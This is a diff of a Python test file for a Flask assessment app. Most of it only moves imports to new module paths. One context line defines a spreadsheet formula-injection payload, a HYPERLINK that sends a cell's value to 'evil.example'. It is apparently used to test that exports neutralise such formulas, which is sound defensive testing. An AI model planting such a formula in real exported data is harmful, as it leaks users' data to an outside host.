@@ -13,10 +13,11 @@ import yaml
 from flask import Flask
 from flask.testing import FlaskClient
 
-from advisor.store import AssessmentRecord, create_token
+from advisor.store.accounts import create_token, user_by_name
+from advisor.store.tables import AssessmentRecord
 from tests.conftest import ROOT
 from tests.web.conftest import Browser
-from web import services
+from web.extensions import services
 
 CONTOSO: dict[str, Any] = yaml.safe_load((ROOT / "examples" / "contoso.yaml").read_text())
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -29,7 +30,7 @@ pytestmark = pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], i
 def _token(app: Flask, username: str) -> dict[str, str]:
     store = services(app).store
     with store.session() as db:
-        user = store.user_by_name(db, username)
+        user = user_by_name(db, username)
         assert user is not None
         return {"Authorization": f"Bearer {create_token(db, user, 'tests')}"}
 
